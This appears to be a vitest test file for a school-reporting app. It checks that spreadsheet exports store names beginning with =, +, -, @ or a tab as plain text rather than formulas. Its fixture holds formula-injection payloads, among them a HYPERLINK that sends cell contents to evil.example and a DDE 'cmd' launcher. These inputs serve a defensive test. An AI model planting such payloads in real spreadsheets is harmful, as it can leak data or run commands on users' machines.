import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { CaseSnapshot } from '../../src/lib/domain';
import { shilongClosedBy, shilongToJointTeam } from '../../src/lib/demo';
import {
	quarterlyReport,
	termLedger,
	type ReportCase,
	type ReportOrg
} from '../../src/lib/reports';
import { ledgerXlsx, quarterlyXlsx } from '../../src/lib/reports/xlsx';

/** Texts a spreadsheet would take for formulas, as users and org names might carry them. */
const HOSTILE = {
	district: '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
	street: "+1+cmd|' /C calc'!A0",
	school: '-2+3',
	preparer: '@SUM(A1:A9)',
	student: '=1+1',
	guardian: '\t=2+2'
};

const ORGS: ReportOrg[] = [
	{ id: 'org-district', kind: 'district', name: HOSTILE.district, streetId: null },
	{ id: 'org-bureau', kind: 'bureau', name: '测试区教育体育局', streetId: null },
	{ id: 'st-a', kind: 'street', name: HOSTILE.street, streetId: null },
	{ id: 'sc-a1', kind: 'school', name: HOSTILE.school, streetId: 'st-a' }
];

function at(snapshot: CaseSnapshot): ReportCase {
	return {
		snapshot: { ...snapshot, orgs: { schoolId: 'sc-a1', streetId: 'st-a' } },
		schoolId: 'sc-a1',
		streetId: 'st-a'
	};
}

function cases(): ReportCase[] {
	const joint = shilongToJointTeam('case-hostile', 'work').build();
	return [
		at({
			...joint,
			student: { ...joint.student, name: HOSTILE.student },
			guardians: joint.guardians.map((g) => ({ ...g, name: HOSTILE.guardian }))
		}),
		at(shilongClosedBy('returned'))
	];
}

const by = { name: HOSTILE.preparer, org: '测试区教育体育局', on: '2026-01-10' };

/** Every cell of the first sheet whose text starts like a formula, read back with exceljs. */
async function formulaLike(bytes: Uint8Array): Promise<ExcelJS.Cell[]> {
	const wb = new ExcelJS.Workbook();
	await wb.xlsx.load(bytes.buffer as ArrayBuffer);
	const ws = wb.worksheets[0];
	if (!ws) throw new Error('no sheet');
	const found: ExcelJS.Cell[] = [];
	ws.eachRow((row) =>
		row.eachCell((c) => {
			if (c.type === ExcelJS.ValueType.Merge) return; // its master cell is checked
			if (typeof c.value === 'string' ? /^[=+\-@\t\r]/.test(c.value) : c.formula) found.push(c);
		})
	);
	return found;
}

function expectText(cells: ExcelJS.Cell[], expected: string[]): void {
	const texts = cells.map((c) => c.value);
	for (const e of expected) expect(texts).toContain(e);
	for (const c of cells) {
		// A string, not a formula, formatted as Text so that editing it keeps it a string.
		expect(c.type, c.address).toBe(ExcelJS.ValueType.String);
		expect(c.formula, c.address).toBeUndefined();
		expect(c.numFmt, c.address).toBe('@');
	}
}

describe('xlsx exports never hold a formula (issue 10)', () => {
	it('the quarterly form writes names that start with = + - @ as text', async () => {
		const report = quarterlyReport({
			cases: cases(),
			orgs: ORGS,
			enrollment: {},
			year: 2025,
			quarter: 4,
			today: '2026-01-10'
		});
		const cells = await formulaLike(await quarterlyXlsx(report, by));
		expectText(cells, [HOSTILE.district, HOSTILE.street, HOSTILE.school]);
	});

	it('the term ledger writes student, guardian, school and street names as text', async () => {
		const ledger = termLedger({
			cases: cases(),
			orgs: ORGS,
			term: { start: '2025-09-01', end: '2026-01-23' },
			today: '2026-01-10'
		});
		const cells = await formulaLike(await ledgerXlsx(ledger, by, HOSTILE.street));
		expectText(cells, [HOSTILE.district, HOSTILE.street, HOSTILE.school, HOSTILE.student]);
		expect(
			cells.some((c) => typeof c.value === 'string' && c.value.startsWith(HOSTILE.guardian))
		).toBe(true);
	});
});
